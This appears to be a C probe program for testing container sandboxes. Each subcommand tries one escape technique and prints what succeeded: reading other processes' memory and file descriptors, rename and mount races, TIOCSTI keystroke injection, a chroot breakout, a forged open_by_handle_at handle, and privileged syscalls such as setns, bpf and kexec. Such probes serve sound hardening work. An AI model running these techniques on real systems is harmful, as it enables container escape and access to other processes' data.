/* What a hostile program in a container tries; one word says what. Each line that it prints is one finding.

   gcc -static -O1 probe.c -o probe */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *error(long result) { return result < 0 ? strerrorname_np(errno) : "done"; }

/* Each line once, however often it is found. */
static void found(const char *what, const char *which)
{
	static char seen[256][320];
	static int count;
	char line[320];
	snprintf(line, sizeof line, "%s %s", what, which);
	for (int i = 0; i < count; i++)
		if (!strcmp(seen[i], line))
			return;
	if (count < 256)
		strcpy(seen[count++], line);
	puts(line);
	fflush(stdout);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void pry_link(const char *what, const char *path)
{
	char to[256];
	ssize_t size = readlink(path, to, sizeof to - 1);
	if (size < 0)
		return;
	to[size] = 0;
	found(what, to);
	int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY);
	struct stat facts;
	if (fd >= 0) {
		if (!fstat(fd, &facts) && S_ISREG(facts.st_mode))
			found("writable", to);
		close(fd);
	}
}

static void pry_folder(const char *what, const char *path)
{
	char name[512];
	DIR *folder = opendir(path);
	if (!folder)
		return;
	for (struct dirent *entry; (entry = readdir(folder));)
		if (entry->d_name[0] != '.') {
			snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
			pry_link(what, name);
		}
	closedir(folder);
}

static void pry_process(int pid)
{
	char path[64], word[16] = "", name[80];
	struct stat root, own;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	pry_link("exe", path);
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	pry_folder("fd", path);
	snprintf(path, sizeof path, "/proc/%d/map_files", pid);
	pry_folder("map", path);
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, i ? "cwd" : "root");
		int fd = open(path, O_PATH | O_DIRECTORY);
		if (fd >= 0 && !fstat(fd, &root) && !stat("/", &own) && (root.st_dev != own.st_dev || root.st_ino != own.st_ino))
			found("foreign", path);
		if (fd >= 0)
			close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDONLY);
	for (long at = 0x400000; memory >= 0 && at <= 0x600000; at += 0x200000)
		if (pread(memory, word, 8, at) == 8) {
			snprintf(name, sizeof name, "%lx of a process", at);
			found("memory", name);
		}
	if (memory >= 0)
		close(memory);
	struct iovec here = {word, 8}, there = {(void *)0x600000, 8};
	if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 8)
		found("memory", "600000 of a process");
	int process = syscall(SYS_pidfd_open, pid, 0);
	for (int i = 3; process >= 0 && i < 32; i++) {
		int fd = syscall(SYS_pidfd_getfd, process, i, 0);
		if (fd >= 0) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			pry_link("taken", path);
			close(fd);
		}
	}
	if (process >= 0)
		close(process);
}

/* pry SECONDS: look into every process but this one, again and again. */
static int pry(const char *seconds)
{
	char path[32];
	puts("prying");
	fflush(stdout);
	for (double end = now() + atof(seconds); now() < end;)
		for (int pid = 1; pid < 48; pid++) {
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (pid != getpid() && !access(path, F_OK)) {
				found("pid", path);
				pry_process(pid);
			}
		}
	return 0;
}

/* swap TURNS SECONDS PATH PATH ...: exchange each pair, so often at least and so long at least; an end of input ends it. */
static int swap(int count, char **words)
{
	long turns = 0, least = atol(words[0]);
	double end = now() + atof(words[1]);
	fcntl(0, F_SETFL, O_NONBLOCK);
	for (char byte;; turns++) {
		for (int i = 2; i + 1 < count; i += 2)
			if (syscall(SYS_renameat2, AT_FDCWD, words[i], AT_FDCWD, words[i + 1], 2)) {
				perror(words[i]);
				return 1;
			}
		if (turns >= least && (now() >= end || read(0, &byte, 1) == 0))
			break;
	}
	printf("turns %ld\n", turns);
	return 0;
}

/* mounts TURNS SECONDS SOURCE PATH: lay one folder over another and take it away, as often and as long as `swap`. */
static int mounts(char **words)
{
	long turns = 0, least = atol(words[0]);
	double end = now() + atof(words[1]);
	fcntl(0, F_SETFL, O_NONBLOCK);
	for (char byte;; turns++) {
		if (mount(words[2], words[3], NULL, MS_BIND | MS_REC, NULL) || umount2(words[3], MNT_DETACH)) {
			perror(words[3]);
			return 1;
		}
		if (turns >= least && (now() >= end || read(0, &byte, 1) == 0))
			break;
	}
	printf("turns %ld\n", turns);
	return 0;
}

/* covers NAME ...: is each of these that is a procfs covered as it should be? */
static int covers(int count, char **names)
{
	for (int i = 0; i < count; i++) {
		struct statfs kind;
		struct statvfs mount;
		struct stat facts;
		int top = open(names[i], O_PATH | O_DIRECTORY | O_NOFOLLOW);
		if (top < 0 || fstatfs(top, &kind) || kind.f_type != 0x9fa0)
			continue;
		found("proc", names[i]);
		const char *hidden[] = {"interrupts", "keys", "timer_list", "kcore"};
		for (int j = 0; j < 4; j++)
			if (!fstatat(top, hidden[j], &facts, 0) && !(S_ISCHR(facts.st_mode) && facts.st_rdev == makedev(1, 3)))
				found("bare", hidden[j]);
		int settings = openat(top, "sys", O_PATH | O_DIRECTORY);
		if (settings < 0 || fstatvfs(settings, &mount) || !(mount.f_flag & ST_RDONLY))
			found("bare", "sys");
	}
	return 0;
}

/* push: put keys into every terminal in reach. */
static int push(void)
{
	const char *places[] = {"/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/1"};
	unsigned long high[] = {0, 1UL << 32, 0xdeadbeefUL << 32, 1UL << 63};
	char key = '#', paste = 3, line[80];
	for (int i = 0; i < 8; i++) {
		int fd = i < 3 ? i : open(places[i - 3], O_RDWR | O_NOCTTY | O_NONBLOCK);
		for (int j = 0; fd >= 0 && j < 4; j++) {
			snprintf(line, sizeof line, "%d.%d %s", i, j, error(syscall(SYS_ioctl, fd, 0x5412 | high[j], &key)));
			found("TIOCSTI", line);
			snprintf(line, sizeof line, "%d.%d %s", i, j, error(syscall(SYS_ioctl, fd, 0x541C | high[j], &paste)));
			found("TIOCLINUX", line);
		}
	}
	return 0;
}

/* climb: the old way out of a chroot. */
static int climb(void)
{
	int here = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/climb", 0700);
	printf("chroot %s\n", error(chroot("/climb")));
	if (fchdir(here))
		return 1;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return 1;
	printf("chroot-up %s\n", error(chroot(".")));
	fflush(stdout);
	execl("/bin/busybox", "ls", "-a", "/", NULL);
	return 1;
}

static long open_by_handle(const char *path)
{
	struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head.handle_bytes = 128};
	int mount;
	/* the root directory of most disks is inode 2; one that a handle can be asked for is forged into that */
	if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0))
		return -1;
	int fd = open(path, O_RDONLY);
	unsigned root = 2, generation = 0;
	memcpy(handle.head.f_handle, &root, 4);
	memcpy(handle.head.f_handle + 4, &generation, 4);
	return open_by_handle_at(fd, &handle.head, O_RDONLY);
}

static int start(void *unused) { return 0; }

/* reach: the calls that lead out of a container, or into the kernel. */
static int reach(void)
{
	static char stack[65536];
	char attribute[128] = "";
	printf("mount %s\n", error(mount("none", "/mnt", "tmpfs", 0, NULL)));
	printf("bind %s\n", error(mount("/", "/mnt", NULL, MS_BIND, NULL)));
	printf("remount %s\n", error(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
	printf("umount %s\n", error(umount2("/proc/keys", MNT_DETACH)));
	printf("fsopen %s\n", error(syscall(SYS_fsopen, "tmpfs", 0)));
	printf("open_tree %s\n", error(syscall(SYS_open_tree, AT_FDCWD, "/", 1)));
	printf("pivot_root %s\n", error(syscall(SYS_pivot_root, ".", ".")));
	printf("cgroup %s\n", error(mount("none", "/mnt", "cgroup", 0, "memory")));
	printf("unshare %s\n", error(unshare(CLONE_NEWNS)));
	printf("user %s\n", error(unshare(CLONE_NEWUSER)));
	printf("clone %s\n", error(clone(start, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL)));
	printf("clone3 %s\n", error(syscall(SYS_clone3, attribute, 64)));
	printf("setns %s\n", error(setns(open("/proc/1/ns/mnt", O_RDONLY), 0)));
	printf("handle %s\n", error(open_by_handle("/etc/hosts")));
	printf("bpf %s\n", error(syscall(SYS_bpf, 0, attribute, 128)));
	printf("module %s\n", error(syscall(SYS_init_module, attribute, 0, "")));
	printf("kexec %s\n", error(syscall(SYS_kexec_load, 0, 0, NULL, 0)));
	printf("perf %s\n", error(syscall(SYS_perf_event_open, attribute, 0, -1, -1, 0)));
	printf("userfaultfd %s\n", error(syscall(SYS_userfaultfd, 0)));
	printf("io_uring %s\n", error(syscall(SYS_io_uring_setup, 1, attribute)));
	printf("keyctl %s\n", error(syscall(SYS_keyctl, 0, -3, 0)));
	printf("add_key %s\n", error(syscall(SYS_add_key, "user", "probe", "x", 1, -3)));
	printf("syslog %s\n", error(syscall(SYS_syslog, 3, attribute, 100)));
	printf("settime %s\n", error(syscall(SYS_clock_settime, 0, attribute)));
	printf("reboot %s\n", error(syscall(SYS_reboot, 0, 0, 0, NULL)));
	printf("swapon %s\n", error(syscall(SYS_swapon, "/dev/null", 0)));
	printf("iopl %s\n", error(syscall(SYS_iopl, 3)));
	printf("personality %s\n", error(syscall(SYS_personality, 0x0400000)));
	return 0;
}

/* session NAME: the session keyring, and a key by that name in it. */
static int session(const char *name)
{
	char line[32];
	snprintf(line, sizeof line, "%ld", syscall(SYS_keyctl, 0, -3, 0));
	found("keyring", line);
	snprintf(line, sizeof line, "%s", error(syscall(SYS_keyctl, 10, -3, "user", name, 0)));
	found("key", line);
	return 0;
}

/* call NAME: connect to an abstract socket. */
static int call(const char *name)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	strcpy(address.sun_path + 1, name);
	printf("connect %s\n", error(connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
	return 0;
}

int main(int count, char **words)
{
	const char *word = count > 1 ? words[1] : "";
	if (!strcmp(word, "pry"))
		return pry(words[2]);
	if (!strcmp(word, "swap"))
		return swap(count - 2, words + 2);
	if (!strcmp(word, "mounts"))
		return mounts(words + 2);
	if (!strcmp(word, "covers"))
		return covers(count - 2, words + 2);
	if (!strcmp(word, "push"))
		return push();
	if (!strcmp(word, "climb"))
		return climb();
	if (!strcmp(word, "reach"))
		return reach();
	if (!strcmp(word, "session"))
		return session(words[2]);
	if (!strcmp(word, "call"))
		return call(words[2]);
	return 2;
}
